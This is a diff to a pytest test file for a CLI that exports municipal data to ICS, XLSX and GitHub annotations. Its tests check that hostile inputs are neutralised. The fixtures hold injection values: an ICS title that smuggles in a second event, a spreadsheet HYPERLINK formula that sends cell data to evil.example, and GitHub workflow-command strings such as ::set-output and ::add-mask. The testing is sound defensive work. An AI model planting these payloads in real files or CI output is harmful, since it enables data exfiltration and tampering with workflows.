@@ -16,7 +16,9 @@ import pytest
 from .conftest import TODAY, run_cli
 from .test_diff import GAGGENAU, edit, git
 
-ICS_TITLE = "Sprachcafé\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Boese\r\nUID:x\x1b[2J"
+# CR and ESC are findings of their own now (loader: control characters); a line feed in
+# a text is allowed, so it is what an attacker has left
+ICS_TITLE = "Sprachcafé\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Boese\nUID:x"
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
     " =1+1",
@@ -68,7 +70,7 @@ def test_ics_titles_cannot_break_out_of_their_event(hostile: Path) -> None:
     (hit,) = [s for s in summaries if s.startswith("Maßnahme endet: Stadt Gaggenau: M-SPR-01")]
     assert hit == (
         "Maßnahme endet: Stadt Gaggenau: M-SPR-01 Sprachcafé END:VEVENT BEGIN:VEVENT "
-        "SUMMARY:Boese UID:x [2J"
+        "SUMMARY:Boese UID:x"
     )
     assert all("\n" not in s and "\r" not in s for s in summaries)
     assert all("\n" not in str(e["DESCRIPTION"]) for e in events)
@@ -97,7 +99,7 @@ def test_xlsx_cells_are_text_never_formulas(hostile: Path) -> None:
     assert any("=HYPERLINK" in s for s in sheets)  # the text is there, as a string
 
 
-WORKFLOW = "x\n::set-output name=a::b\r\n::error file=a::boese%0A::add-mask::q"
+WORKFLOW = "x\n::set-output name=a::b\n::error file=a::boese%0A::add-mask::q"
 
 
 @pytest.fixture
@@ -123,7 +125,7 @@ def test_annotations_carry_no_workflow_command(commands: Path) -> None:
     result = run_cli("validate", "--format", "github", "--today", TODAY, cwd=commands)
     assert result.code == 1
     _only_annotations(result.out)
-    assert "x%0A::set-output name=a::b%0D%0A::error file=a" in result.out
+    assert "x%0A::set-output name=a::b%0A::error file=a" in result.out
 
 
 def test_the_pull_request_check_in_actions_carries_none(commands: Path, tmp_path: Path) -> None:
